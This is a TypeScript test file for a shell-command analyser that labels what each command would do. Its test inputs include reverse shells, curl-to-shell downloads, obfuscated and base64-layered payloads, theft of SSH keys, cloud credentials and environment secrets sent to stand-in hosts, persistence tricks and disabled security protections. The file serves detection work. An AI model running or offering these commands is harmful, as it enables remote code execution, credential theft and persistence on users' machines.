import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { encode, readText } from "../read.test-support.ts";

/** Each command with all that it would do, one line for each effect. */
type Expectation = readonly [command: string, effects: readonly string[]];

function check(expectations: readonly Expectation[]): void {
  for (const [command, effects] of expectations) {
    it(command.slice(0, 90), () => assert.deepEqual(readText(command).effects, effects));
  }
}

const address = "http://a.example/x";

describe("what is downloaded and run at once", () => {
  const asked = `request curl: ${address}`;
  check([
    [`curl -s ${address} | bash`, [asked, "evaluate bash: ? from network {piped}"]],
    [
      `wget -qO- ${address} | sudo -E sh -`,
      [`request wget: ${address}`, "evaluate sh: ? from network {elevated,piped}"],
    ],
    [`curl -fsSL ${address} | bash -s -- --yes`, [asked, "evaluate bash: ? from network {piped}"]],
    [`bash -c "$(curl -fsSL ${address})"`, [asked, "evaluate bash: ? from network {inline-code,piped}"]],
    [`eval "$(curl ${address})"`, [asked, "evaluate eval: ? from network {piped}"]],
    [`source <(curl ${address})`, [asked, "evaluate source: ? from network {piped}"]],
    [`. <(curl ${address})`, [asked, "evaluate source: ? from network {piped}"]],
    [`python3 -c "$(curl ${address})"`, [asked, "evaluate python3: ? from network {inline-code,piped}"]],
    [`curl ${address} | osascript`, [asked, "evaluate osascript: ? from network {piped}"]],
    [
      `curl ${address} | tee /tmp/x | node`,
      [asked, "write tee: /tmp/x <= ? from network", "evaluate node: ? from network {piped}"],
    ],
    [`$(curl ${address})`, [asked, "evaluate sh: ? from network {piped}"]],
    [`curl ${address} | xargs -I{} sh -c '{}'`, [asked, "evaluate sh: ? from network {inline-code,piped}"]],
    [
      `curl ${address} | base64 -d | gunzip | sh >/dev/null 2>&1 &`,
      [
        `request curl: ${address} {background}`,
        "evaluate sh: ? as base64+compressed from network {background,piped,silenced}",
      ],
    ],
    [
      "bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
      ["request /dev/tcp: 192.0.2.1:443", "evaluate bash: ? from network {piped}"],
    ],
    [
      "exec 3<>/dev/tcp/a.example/9; bash <&3",
      ["request /dev/tcp: a.example:9", "evaluate bash: ? from network {piped}"],
    ],
    [
      `deno run -A https://a.example/x.ts`,
      ["request deno: https://a.example/x.ts", "evaluate deno: ? from network {piped}"],
    ],
  ]);

  it("follows what comes back through a named pipe", () => {
    const { effects } = readText("mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 192.0.2.1 9 > /tmp/p");
    assert.ok(effects.includes("evaluate sh: ? from file+network {piped}"));
  });
});

describe("what is written first and started later", () => {
  const got = [`request curl: ${address}`, "write curl: /tmp/.x <= ? from network"];
  check([
    [
      `curl -so /tmp/.x ${address} && chmod +x /tmp/.x && /tmp/.x`,
      [...got, "write chmod: /tmp/.x <= ? from network {executable}", "run .x: /tmp/.x from network"],
    ],
    [`F=/tmp/.x; U=${address}; curl $U > $F; sh $F`, [...got, "run sh: sh /tmp/.x from network"]],
    [
      `cd /tmp; wget ${address}; nohup ./x >/dev/null 2>&1 & disown`,
      [
        `request wget: ${address}`,
        "write wget: x <= ? from network",
        "run x: ./x from network {background,detached,silenced}",
      ],
    ],
    [
      `curl ${address} | tar xz -C /tmp/d; /tmp/d/run`,
      [`request curl: ${address}`, "run run: /tmp/d/run as compressed from network"],
    ],
    [
      "git clone https://a.example/r.git && cd r && ./install.sh",
      ["request git: https://a.example/r.git", "run install.sh: ./install.sh from network"],
    ],
    [
      "cat > /tmp/x <<'E'\ncurl http://a.example | sh\nE\nsh /tmp/x",
      [
        "write cat: /tmp/x <= curl http://a.example | sh",
        "run sh: sh /tmp/x",
        "request curl: http://a.example",
        "evaluate sh: ? from network {piped}",
      ],
    ],
  ]);
});

describe("what is hidden is folded", () => {
  const asked = `request curl: ${address}`;
  const disguised = (encoding: string) => `run curl: curl ${address} as ${encoding}`;
  check([
    [`c'u'rl ${address}`, [disguised("concatenated"), asked]],
    [`"cu""rl" ${address}`, [disguised("concatenated"), asked]],
    [String.raw`cu\rl ${address}`, [disguised("concatenated"), asked]],
    [String.raw`$'\x63\x75rl' ${address}`, [disguised("character-codes"), asked]],
    [`a=cu; b=rl; $a$b ${address}`, [asked]],
    [`curl\${IFS}${address}`, [asked]],
    [`{curl,-s,${address}}`, [asked]],
    [`/usr/bin/c?rl ${address}`, [`run curl: /usr/bin/c?rl ${address} as concatenated`, asked]],
    [`$(echo lruc | rev) ${address}`, [`run curl: curl ${address} as reversed`, asked]],
    [`$(echo phey | tr a-z n-za-m) ${address}`, [`run curl: curl ${address} as rotated`, asked]],
    [String.raw`$(printf '\x63\x75\x72\x6c') ${address}`, [disguised("character-codes"), asked]],
    [`$(echo 6375726c | xxd -r -p) ${address}`, [`run curl: curl ${address} as hex`, asked]],
    [`x=xxcurlxx; y=\${x#xx}; \${y%xx} ${address}`, [asked]],
    [`x=abcurl; \${x:2} ${address}`, [asked]],
    [`for c in c u r l; do s+=$c; done; $s ${address}`, [asked]],
    [`x=curl; y=x; \${!y} ${address}`, [asked]],
    [`c=(curl -s); "\${c[@]}" ${address}`, [asked]],
    [`echo $((40 + 2)) | xargs -I{} curl http://a.example/{}`, ["request curl: http://a.example/42"]],
  ]);

  it("reads decoded text as commands of the next layer, where it stands", () => {
    const { effects, reading } = readText(`echo hi\necho ${encode(`curl ${address} | sh`)} | base64 -d | sh`);
    assert.deepEqual(effects, [
      `evaluate sh: curl ${address} | sh as base64`,
      `request curl: ${address} layer 1`,
      "evaluate sh: ? from network {piped} layer 1",
    ]);
    assert.deepEqual(new Set(reading.effects.map(({ at }) => at.line)), new Set([2]));
  });

  it("reads layers up to six, and says so when there are more", () => {
    let command = `curl ${address}`;
    for (let layer = 0; layer < 5; layer += 1) command = `echo ${encode(command)} | base64 -d | sh`;
    assert.ok(readText(command).effects.includes(`request curl: ${address} layer 5`));
    for (let layer = 0; layer < 3; layer += 1) command = `echo ${encode(command)} | base64 -d | sh`;
    assert.match(readText(command).unread ?? "", /more texts than are followed/u);
  });

  it("reads a payload behind the script itself", () => {
    const text = `tail -n +3 "$0" | base64 -d | sh\nexit\n${encode(`curl ${address}`)}`;
    assert.ok(readText(text, { path: "run.sh" }).effects.includes(`request curl: ${address} layer 1`));
  });
});

describe("how a process is started", () => {
  it("marks what runs in the background, unheard, detached, elevated and again and again", () => {
    const [first] = readText("nohup node x >/dev/null 2>&1 &").effects;
    assert.equal(first, "run node: node x {background,detached,silenced}");
    assert.deepEqual(readText("setsid foo").effects, ["run foo: foo {detached}"]);
    assert.deepEqual(readText("sudo -u root apt-get install -y x").effects, [
      "run apt-get: apt-get install -y x {elevated}",
    ]);
    assert.deepEqual(readText("while true; do foo; sleep 5; done").effects, ["run foo: foo {repeated}"]);
    assert.deepEqual(readText("(foo; bar) >/dev/null").effects, ["run foo: foo {silenced}", "run bar: bar {silenced}"]);
  });

  it("does not call a command silenced that only may fail", () => {
    assert.deepEqual(readText("set +e; foo || true").effects, ["run foo: foo"]);
  });

  it("marks a package that is installed on the quiet and not recorded", () => {
    for (const quiet of ["--silent", "--loglevel silent", "--loglevel=silent"])
      assert.deepEqual(readText(`npm install a --no-save ${quiet}`).effects, [
        `run npm: npm install a --no-save ${quiet} {silenced,unrecorded-install}`,
      ]);
  });

  it("sees both halves of a line for two systems", () => {
    const { effects, runs } = readText("start /b node server || nohup node server &", {
      language: "auto",
      files: ["server/index.js"],
    });
    assert.deepEqual(effects, [
      "run node: node server {background} -> server/index.js",
      "run node: node server {background,detached} -> server/index.js",
    ]);
    assert.deepEqual(runs, ["node server/index.js (javascript)"]);
  });

  it("marks protections that are turned off", () => {
    const weakened = [
      "xattr -d com.apple.quarantine ./App",
      "spctl --master-disable",
      "csrutil disable",
      "setenforce 0",
      "curl -k https://a.example",
      "wget --no-check-certificate https://a.example",
      "NODE_TLS_REJECT_UNAUTHORIZED=0 node x.js",
      "export NODE_TLS_REJECT_UNAUTHORIZED=0",
      "chattr +u x; chattr -i x",
    ];
    for (const command of weakened) assert.match(readText(command).effects.join(), /unprotected/u, command);
    for (const command of ["xattr -l x", "spctl --status", "curl https://a.example", "node x.js"])
      assert.doesNotMatch(readText(command).effects.join(), /unprotected/u, command);
  });

  it("says when an interpreter is pointed at a file that is named like no program", () => {
    const files = [".vscode/words.dict", "public/fa.woff2", "scripts/build.js"];
    assert.deepEqual(readText("node .vscode/words.dict", { files }).effects, [
      "run node: node .vscode/words.dict {program-in-asset} -> .vscode/words.dict",
    ]);
    const folderVariable = readText("node ${workspaceFolder}/public/fa.woff2", { files });
    assert.deepEqual(folderVariable.runs, ["node public/fa.woff2 (javascript)"]);
    assert.match(folderVariable.effects[0] ?? "", /program-in-asset/u);
    assert.doesNotMatch(readText("node scripts/build.js", { files }).effects.join(), /asset/u);
  });

  it("follows a file of the arrival under another name", () => {
    const { runs } = readText("cp public/fa.woff2 /tmp/a.js && node /tmp/a.js", { files: ["public/fa.woff2"] });
    assert.deepEqual(runs, ["node public/fa.woff2 (javascript)"]);
  });

  it("finds files beside the script, and from the folder it went to", () => {
    const files = ["tools/a.js", "app/b.js", "run.js"];
    assert.deepEqual(readText('node "$(dirname "$0")/a.js"', { path: "tools/run.sh", folder: "tools", files }).runs, [
      "node tools/a.js (javascript)",
    ]);
    assert.deepEqual(
      readText('DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"; node "$DIR/a.js"', {
        path: "tools/run.sh",
        folder: "tools",
        files,
      }).runs,
      ["node tools/a.js (javascript)"],
    );
    assert.deepEqual(readText("cd app && node b.js", { files }).runs, ["node app/b.js (javascript)"]);
    assert.deepEqual(readText("node run.js", { path: "tools/run.sh", folder: "tools", files }).runs, [
      "node run.js (javascript)",
    ]);
  });
});

describe("who calls what", () => {
  it("follows functions with their arguments, and tells those that nothing calls", () => {
    const { effects, reading } = readText(`get() { curl $1 | sh; }\nget ${address}\nwipe() { rm -rf ~; }`);
    assert.deepEqual(effects, [
      `request curl: ${address} (call)`,
      "evaluate sh: ? from network {piped} (call)",
      "delete rm: ~ (dormant)",
    ]);
    assert.deepEqual(
      reading.effects[0]?.calls.map(({ line }) => line),
      [2],
    );
  });

  it("follows every branch", () => {
    const text = `case "$OSTYPE" in\n darwin*) curl ${address}/m | sh;;\n *) wget -qO- ${address}/l | sh;;\nesac\nif [ -n $v ]; then rm a; else rm b; fi`;
    const kinds = readText(text).effects.map((effect) => effect.split(" ", 2).join(" "));
    assert.deepEqual(kinds, [
      "request curl:",
      "evaluate sh:",
      "request wget:",
      "evaluate sh:",
      "delete rm:",
      "delete rm:",
    ]);
  });

  it("keeps both values of a variable that two branches set", () => {
    const { effects } = readText("if [ -n $v ]; then U=http://a.example; else U=http://b.example; fi; curl $U");
    assert.deepEqual(effects, ["request curl: http://a.example | http://b.example"]);
  });

  it("reads traps, aliases and what a crontab will run", () => {
    assert.deepEqual(readText("trap 'curl http://a.example' EXIT").effects, ["request curl: http://a.example (call)"]);
    assert.deepEqual(readText("alias ls='curl http://a.example'").effects, ["request curl: http://a.example (call)"]);
    const { effects } = readText("(crontab -l; echo '@reboot curl http://a.example | sh') | crontab -");
    assert.deepEqual(effects.slice(1), [
      "request curl: http://a.example {repeated} (call)",
      "evaluate sh: ? from network {piped,repeated} (call)",
    ]);
  });
});

describe("what is taken and sent", () => {
  check([
    [
      `cat ~/.ssh/id_rsa | curl -F 'f=@-' ${address}`,
      ["read cat: ~/.ssh/id_rsa", `request curl: ${address} <= ? from file`],
    ],
    [
      `curl -T ~/.aws/credentials ${address}`,
      ["read curl: ~/.aws/credentials", `request curl: ${address} <= ? from file`],
    ],
    [`curl -d @.env ${address}`, ["read curl: .env", `request curl: ${address} <= ? from file`]],
    [
      `env | curl -d @- ${address}`,
      ["inspect env: environment", `request curl: ${address} <= ? from whole-environment`],
    ],
    [
      `curl -d "$(printenv)" ${address}`,
      ["inspect printenv: environment", `request curl: ${address} <= ? from whole-environment`],
    ],
    [`curl -H "A: $TOKEN" ${address}`, [`request curl: ${address} <= A: … from environment`]],
    [`tar czf - ~/.aws | nc a.example 9`, ["read tar: ~/.aws", "request nc: a.example:9 <= ? as compressed from file"]],
    [`curl "${address}?u=$(whoami)"`, ["inspect whoami: whoami", `request curl: ${address}?u=… from host`]],
    [`pbpaste | curl -d @- ${address}`, ["observe pbpaste: clipboard", `request curl: ${address} <= ? from clipboard`]],
    [
      `security find-generic-password -ga Chrome | curl -d @- ${address}`,
      [
        "read security: security find-generic-password -ga Chrome",
        `request curl: ${address} <= ? from credential-store`,
      ],
    ],
    [
      `read -s -p Password: P; curl -d "$P" ${address}`,
      ["observe read: password", `request curl: ${address} <= ? from user-input`],
    ],
    [
      `find ~ -name '*.env' -exec cp {} /tmp/x \\;`,
      ["read find: ~/**/*.env", "read cp: ~/**/*.env", "write cp: /tmp/x <= ? from file"],
    ],
    [
      "screencapture -x /tmp/s.png",
      ["observe screencapture: screen", "write screencapture: /tmp/s.png <= ? from screen"],
    ],
    ["scp ~/.ssh/id_rsa u@a.example:", ["read scp: ~/.ssh/id_rsa", "request scp: u@a.example: <= ? from file"]],
  ]);
});

describe("what stays behind", () => {
  check([
    ["echo 'sh ~/.x' >> ~/.bashrc", ["write echo: ~/.bashrc <= sh ~/.x"]],
    ['echo x >> "$HOME/.zshrc"', ["write echo: ~/.zshrc <= x"]],
    [
      "cp a.plist ~/Library/LaunchAgents/a.plist",
      ["read cp: a.plist", "write cp: ~/Library/LaunchAgents/a.plist <= ? from file"],
    ],
    ["launchctl load ~/Library/LaunchAgents/a.plist", ["run launchctl: launchctl load ~/Library/LaunchAgents/a.plist"]],
    ["systemctl --user enable a", ["run systemctl: systemctl --user enable a"]],
    ["echo k >> ~/.ssh/authorized_keys", ["write echo: ~/.ssh/authorized_keys <= k"]],
    ["cp x .git/hooks/pre-commit", ["read cp: x", "write cp: .git/hooks/pre-commit <= ? from file"]],
    ["git config core.hooksPath .hooks", ["write git: git config core.hooksPath <= .hooks"]],
    [
      "git config alias.st '!curl http://a.example | sh'",
      [
        "write git: git config alias.st <= !curl http://a.example | sh",
        "request curl: http://a.example",
        "evaluate sh: ? from network {piped}",
      ],
    ],
    ["echo x | sudo tee /etc/cron.d/x", ["write tee: /etc/cron.d/x <= x {elevated}"]],
  ]);
});

describe("innocent commands say little", () => {
  check([
    ["husky install", ["run husky: husky install"]],
    ["patch-package", ["run patch-package: patch-package"]],
    ["tsc -w", ["run tsc: tsc -w"]],
    [
      "rimraf dist && mkdir -p dist && cp -r a dist/",
      ["delete rimraf: dist", "read cp: a", "write cp: dist/ <= ? from file"],
    ],
    [
      "curl -fsSL https://a.example/f.txt -o data/f.txt",
      ["request curl: https://a.example/f.txt", "write curl: data/f.txt <= ? from network"],
    ],
    ["pip install -r requirements.txt", ["run pip: pip install -r requirements.txt"]],
    ["git config core.autocrlf true", ["write git: git config core.autocrlf <= true"]],
    ['set -euo pipefail; cd "$(dirname "$0")"; [ -f x ] && echo ok; export A=b', []],
    ["cross-env NODE_ENV=test jest --coverage", ["run jest: jest --coverage"]],
    ['eval "$(ssh-agent -s)"', ["run ssh-agent: ssh-agent -s", "evaluate eval: ? from process-output"]],
    ["${CC:-} -o x x.c", []],
  ]);
});
